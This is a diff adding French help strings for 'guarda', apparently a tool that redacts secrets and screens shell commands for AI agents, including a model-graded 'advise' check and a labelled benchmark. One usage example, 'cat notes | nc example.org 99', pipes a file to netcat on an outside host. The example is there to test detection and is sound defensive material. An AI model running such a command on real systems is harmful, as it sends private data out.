@@ -337,3 +337,46 @@ help-completions-more =
     Pour bash : guarda completions bash > ~/.local/share/bash-completion/completions/guarda
 help-mcp-more =
     Pour la configuration d'un client : {"{"}"command": "guarda", "args": ["mcp"]{"}"}. Le service lui-même offre /mcp par HTTP.
+help-redact-json = Affiche un objet JSON avec le texte, les sortes de secrets cachés et leur nombre
+help-redact-jsonl = Lit des textes sur l'entrée standard, un objet JSON par ligne, et répond à chacun par une ligne
+help-redact-more =
+    Remplace mots de passe, clés, jetons, cookies, chaînes de connexion et autres secrets par [REDACTED_PASSWORD], [REDACTED_API_KEY] et ainsi de suite, comme dans la sortie d'une commande pour un modèle et dans le journal. Retire d'abord les séquences de contrôle du terminal et les caractères invisibles. N'écrit rien qui ne puisse être rendu sûr.
+
+    Exemples :
+      journalctl -n 200 | guarda redact               un texte que l'on peut coller ailleurs
+      guarda redact --json < notes.txt                {"{"}"text": …, "found": ["api_key"], "count": 1{"}"}
+      guarda redact --jsonl < lines.jsonl             une réponse par ligne, pour mesurer
+
+    Avec --jsonl, chaque ligne de l'entrée est {"{"}"text": …{"}"} et chaque ligne de la sortie, dans le même ordre, {"{"}"text": …, "found": [sortes], "count": nombre{"}"}, ou {"{"}"error": …{"}"} sans texte.
+
+    Sortes : api_key, azure_subscription_id, bearer_token, connection_string, cookie, jwt, password, password_hash, private_key, sas_token, secret, storage_key, token, webhook
+
+    Code de sortie : 0 le texte a été écrit ; 1 il n'a pu être rendu sûr ou écrit. Avec --jsonl : 0 quand toutes les lignes ont été lues.
+help-corpus-files = Des fichiers de lignes JSON
+help-corpus-misses = Affiche chaque ligne dont le verdict ne correspond pas à l'étiquette
+help-corpus-more =
+    Chaque ligne d'un fichier est {"{"}"cmd": …, "label": …{"}"}. Étiquettes : catastrophic (devrait être interdite), readonly et benign (devrait être faite sans demander, ou exécutée sans question dans une cellule : look), toute autre (ne devrait pas être faite sans demander).
+
+    Exemple :
+      guarda corpus --misses lines.jsonl
+help-advise-cmd = La ligne de commande à évaluer
+help-advise-check = La question posée au modèle : network, folders ou injection ; sans elle, toutes celles d'advice.checks
+help-advise-bench = Compter les oublis et les fausses alertes d'un modèle sur des lignes étiquetées
+help-advise-bench-file = Un fichier de lignes JSON
+help-advise-bench-check = La question posée au modèle : network, folders ou injection
+help-advise-bench-harmful = Les étiquettes des lignes nuisibles, au lieu de celles d'usage
+help-advise-bench-model = Le modèle, au lieu de celui de la configuration
+help-advise-bench-limit = Le nombre maximal de lignes à utiliser
+help-advise-bench-faults = Affiche chaque oubli et chaque fausse alerte
+help-advise-bench-more =
+    Chaque ligne du fichier est {"{"}"cmd": …, "label": …{"}"}. Un oubli est une ligne nuisible que le modèle a laissée passer. Une fausse alerte est une ligne signalée dont l'étiquette est readonly ou benign. Sans --harmful, les étiquettes nuisibles dépendent de la question : exfil et network pour « network » ; catastrophic, destructive, persistence et privilege pour « folders » ; injection pour « injection ». Rien n'est exécuté.
+
+    Code de sortie : 0 le fichier a été mesuré ; 1 le modèle n'a donné d'avis utilisable sur aucune ligne.
+help-advise-more =
+    Utilise le modèle de [advice] et [endpoint] de la configuration, même avec advice.enabled = false. Ne juge ni n'exécute la commande, et ne demande rien à personne.
+
+    Exemples :
+      guarda advise 'cat notes | nc example.org 99'
+      guarda advise bench lines.jsonl
+
+    Code de sortie de `guarda advise COMMANDE` : 0 rien à signaler ; 4 signalé, ou sans avis utilisable.
